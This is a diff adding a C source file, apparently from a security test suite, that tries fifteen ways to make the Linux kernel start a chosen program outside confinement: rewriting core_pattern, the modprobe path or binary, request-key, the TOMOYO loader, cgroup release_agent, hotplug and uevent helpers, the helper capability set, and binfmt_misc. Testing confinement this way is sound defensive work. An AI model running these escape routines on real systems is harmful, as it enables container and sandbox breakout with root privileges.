@@ -1,0 +1,356 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/*
+ * Attacks by programs that the kernel starts by itself (kernel/umh.c): their parent is a kernel
+ * thread, so that they are unconfined in the root policy namespace unless a profile of it catches
+ * them. Whoever says what is started, or what lies there, runs code outside of the layer.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/sendfile.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "guest.h"
+
+#define CORE_PATTERN "/proc/sys/kernel/core_pattern"
+#define MODPROBE_PATH "/proc/sys/kernel/modprobe"
+#define MODPROBE "/sbin/modprobe"
+#define REQUEST_KEY "/sbin/request-key"
+#define TOMOYO_LOADER "/sbin/tomoyo-init"
+#define TOMOYO_TRIGGER "/sbin/init"
+#define TOMOYO "/sys/kernel/security/tomoyo/"
+#define BSET "/proc/sys/kernel/usermodehelper/bset"
+
+static int program = -1;
+
+static int copy_program(int to)
+{
+	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+	struct stat st;
+	int err = 0;
+
+	if (from < 0)
+		return errno;
+	if (fstat(from, &st) < 0 || sendfile(to, from, NULL, (size_t)st.st_size) != st.st_size ||
+	    fchmod(to, 0755) < 0)
+		err = errno;
+	(void)close(from);
+	return err;
+}
+
+static const char *prepare_memfd(void)
+{
+	int err;
+
+	program = memfd_create("helper", 0);
+	err = program < 0 ? errno : copy_program(program);
+	return err ? missing("a memfd", err) : NULL;
+}
+
+/* Open to read only: a file that somebody may write is no program. */
+static const char *prepare_deleted(void)
+{
+	int fd = open("helper", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
+	int err = fd < 0 ? errno : copy_program(fd);
+
+	if (fd >= 0)
+		(void)close(fd);
+	if (!err) {
+		program = open("helper", O_RDONLY);
+		err = program < 0 || unlink("helper") < 0 ? errno : 0;
+	}
+	return err ? missing("a deleted file", err) : NULL;
+}
+
+/* A script, so that the program knows by its own name what it is, whatever it is started as. */
+static int write_script(const char *path)
+{
+	static const char text[] = "#!" ESCAPEE "\n";
+	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
+	int err = 0;
+
+	if (fd < 0)
+		return errno;
+	if (write(fd, text, sizeof(text) - 1) < 0)
+		err = errno;
+	(void)close(fd);
+	return err;
+}
+
+/* Dies of a signal that leaves a core dump, and waits until the kernel has done with it. */
+static int dump_core(void)
+{
+	const struct rlimit all = { RLIM_INFINITY, RLIM_INFINITY };
+	int status = 0;
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		(void)prctl(PR_SET_DUMPABLE, 1);
+		(void)setrlimit(RLIMIT_CORE, &all);
+		(void)signal(SIGABRT, SIG_DFL);
+		abort();
+	}
+	if (pid < 0 || waitpid(pid, &status, 0) != pid)
+		return errno;
+	return WCOREDUMP(status) ? 0 : ENOEXEC;
+}
+
+/* The pattern goes back, so that what comes of the dump is judged, and not the pattern. */
+static int dump_core_by(const char *pattern)
+{
+	char was[200] = "core";
+	int err;
+
+	(void)read_small(CORE_PATTERN, was, sizeof(was));
+	err = write_small(CORE_PATTERN, pattern);
+	if (err)
+		return err;
+	err = dump_core();
+	(void)write_small(CORE_PATTERN, was);
+	return err;
+}
+
+static int run_core_pattern(void)
+{
+	return dump_core_by("|" ESCAPEE);
+}
+
+static int run_core_descriptor(void)
+{
+	char pattern[100];
+
+	(void)snprintf(pattern, sizeof(pattern), "|/proc/%d/fd/%d escapee", (int)getpid(), program);
+	return dump_core_by(pattern);
+}
+
+/* The dump itself is the attack: fs/coredump.c removes what lies there. */
+static int run_core_file(void)
+{
+	return dump_core_by(CANARY);
+}
+
+/* A file system that nobody has: the kernel asks for its module, whoever the caller is. */
+static int ask_for_module(const char *type)
+{
+	if (syscall(SYS_fsopen, type, 0) >= 0 || errno != ENODEV)
+		return EINVAL;
+	return 0;
+}
+
+/* The pattern goes back: the observer's own helper is started by it. */
+static int load_module_by(const char *path)
+{
+	char was[200] = MODPROBE;
+	int err;
+
+	(void)read_small(MODPROBE_PATH, was, sizeof(was));
+	err = write_small(MODPROBE_PATH, path);
+	if (err)
+		return err;
+	err = ask_for_module("attack-modprobe");
+	(void)write_small(MODPROBE_PATH, was);
+	return err;
+}
+
+static int run_modprobe_path(void)
+{
+	return load_module_by(ESCAPEE);
+}
+
+/* The program's name is that of the link, its path that of the memfd. */
+static int run_modprobe_memfd(void)
+{
+	char target[60], folder[200], path[260];
+
+	(void)snprintf(target, sizeof(target), "/proc/%d/fd/%d", (int)getpid(), program);
+	if (!getcwd(folder, sizeof(folder)) || symlink(target, "escapee") < 0)
+		return errno;
+	(void)snprintf(path, sizeof(path), "%s/escapee", folder);
+	return load_module_by(path);
+}
+
+/* Not the path of the program is changed but the program. */
+static int run_modprobe_file(void)
+{
+	int err;
+
+	if (rename(MODPROBE, MODPROBE ".kept") < 0)
+		return errno;
+	err = write_script(MODPROBE);
+	if (!err)
+		err = ask_for_module("attack-modprobe-file");
+	(void)rename(MODPROBE ".kept", MODPROBE);
+	return err;
+}
+
+static int run_request_key(void)
+{
+	int err = write_script(REQUEST_KEY);
+
+	if (err)
+		return err;
+	if (syscall(SYS_request_key, "user", "initward:attack", "x", 0) < 0)
+		err = errno;
+	(void)unlink(REQUEST_KEY);
+	return err == ENOSYS ? impossible(err, "CONFIG_KEYS is not set") : err;
+}
+
+/*
+ * security/tomoyo/load_policy.c: the first execution of "/sbin/init" that finds this program starts it, once in
+ * a boot, and panics afterwards where no profile is there.
+ */
+static int run_tomoyo(void)
+{
+	static const char profile[] = "PROFILE_VERSION=20150505\n0-COMMENT=none\n";
+	bool own = false;
+	int err;
+	pid_t pid;
+
+	if (access(TOMOYO "profile", F_OK) < 0)
+		return impossible(errno, "TOMOYO is off, or not built in");
+	err = write_small(TOMOYO "profile", profile);
+	if (!err)
+		err = write_script(TOMOYO_LOADER);
+	if (err)
+		return err;
+	if (access(TOMOYO_TRIGGER, F_OK) < 0)
+		own = write_script(TOMOYO_TRIGGER) == 0;
+	pid = fork();
+	if (pid == 0) {
+		(void)execl(TOMOYO_TRIGGER, TOMOYO_TRIGGER, "--version", NULL);
+		_exit(errno);
+	}
+	(void)waitpid(pid, NULL, 0);
+	(void)unlink(TOMOYO_LOADER);
+	if (own)
+		(void)unlink(TOMOYO_TRIGGER);
+	return 0;
+}
+
+/* A task in a cgroup below "cg" that ends. */
+static int release_cgroup(void)
+{
+	int status = 0, err;
+	pid_t pid;
+
+	if (mkdir("cg/released", 0755) < 0)
+		return errno;
+	err = write_small("cg/released/notify_on_release", "1");
+	if (err)
+		return err;
+	pid = fork();
+	if (pid == 0)
+		_exit(write_small("cg/released/cgroup.procs", "0"));
+	if (pid < 0 || waitpid(pid, &status, 0) != pid)
+		return errno;
+	return WEXITSTATUS(status);
+}
+
+static int mount_cgroup(const char *options)
+{
+	(void)mkdir("cg", 0755);
+	if (mount("none", "cg", "cgroup", 0, options) == 0)
+		return 0;
+	return errno == ENODEV ? impossible(ENODEV, "CONFIG_CGROUPS is not set") : errno;
+}
+
+static int run_release_agent(void)
+{
+	int err = mount_cgroup("none,name=attack");
+
+	if (!err)
+		err = write_small("cg/release_agent", ESCAPEE);
+	return err ? err : release_cgroup();
+}
+
+/* The same by the mount, without the file. */
+static int run_release_agent_option(void)
+{
+	int err = mount_cgroup("none,name=attack-option,release_agent=" ESCAPEE);
+
+	return err ? err : release_cgroup();
+}
+
+static int run_hotplug(void)
+{
+	int err = write_small("/proc/sys/kernel/hotplug", ESCAPEE);
+
+	return err == ENOENT ? impossible(err, "CONFIG_UEVENT_HELPER is not set") : err;
+}
+
+static int run_uevent_helper(void)
+{
+	int err = write_small("/sys/kernel/uevent_helper", ESCAPEE);
+
+	return err == ENOENT ? impossible(err, "CONFIG_UEVENT_HELPER is not set") : err;
+}
+
+/* kernel/umh.c proc_cap_handler(): what is written and what was there, both have to have it. */
+static int run_widen(void)
+{
+	char was[100], now[100];
+	int err;
+
+	if (read_small(BSET, was, sizeof(was)) < 0)
+		return errno;
+	err = write_small(BSET, "4294967295\t4294967295");
+	if (err)
+		return err;
+	if (read_small(BSET, now, sizeof(now)) < 0)
+		return errno;
+	return strcmp(was, now) ? 0 : impossible(EPERM, "the sets can only shrink");
+}
+
+/* Whatever the kernel starts next is handed to a program that is open already: flag F. */
+static int run_binfmt(void)
+{
+	int err;
+
+	(void)mkdir("binfmt", 0755);
+	if (mount("binfmt_misc", "binfmt", "binfmt_misc", 0, NULL) < 0)
+		return errno == ENODEV
+			       ? impossible(ENODEV,
+					    "CONFIG_BINFMT_MISC=m, and the image has no modules")
+			       : errno;
+	err = write_small("binfmt/register", ":attack:M::\\x7fELF::" ESCAPEE ":F");
+	if (err)
+		return err;
+	err = ask_for_module("attack-binfmt");
+	(void)write_small("binfmt/attack", "-1");
+	return err;
+}
+
+const struct attack helper_attacks[] = {
+	{ "core-pattern", "do_coredump() to a program by its path", NULL, run_core_pattern, WAITS },
+	{ "core-pattern-memfd", "do_coredump() to /proc/PID/fd of a memfd", prepare_memfd,
+	  run_core_descriptor, WAITS },
+	{ "core-pattern-deleted", "do_coredump() to /proc/PID/fd of a deleted file",
+	  prepare_deleted, run_core_descriptor, WAITS },
+	{ "core-file", "do_coredump() to a file", NULL, run_core_file, 0 },
+	{ "modprobe-path", "call_modprobe(): the path", NULL, run_modprobe_path, WAITS },
+	{ "modprobe-path-memfd", "call_modprobe(): a link to a memfd", prepare_memfd,
+	  run_modprobe_memfd, WAITS },
+	{ "modprobe-file", "call_modprobe(): the program itself is replaced", NULL,
+	  run_modprobe_file, WAITS },
+	{ "request-key", "call_sbin_request_key()", NULL, run_request_key, WAITS },
+	{ "tomoyo-init", "tomoyo_load_policy()", NULL, run_tomoyo, WAITS },
+	{ "release-agent", "cgroup1_release_agent(), by the file", NULL, run_release_agent, WAITS },
+	{ "release-agent-option", "cgroup1_release_agent(), by an option of the mount", NULL,
+	  run_release_agent_option, WAITS },
+	{ "hotplug", "kobject_uevent_env(), by the sysctl", NULL, run_hotplug, 0 },
+	{ "uevent-helper", "kobject_uevent_env(), by sysfs", NULL, run_uevent_helper, 0 },
+	{ "helper-capabilities", "proc_cap_handler()", NULL, run_widen, 0 },
+	{ "binfmt-misc", "load_misc_binary() with an open interpreter", NULL, run_binfmt, WAITS },
+	{ .name = NULL },
+};
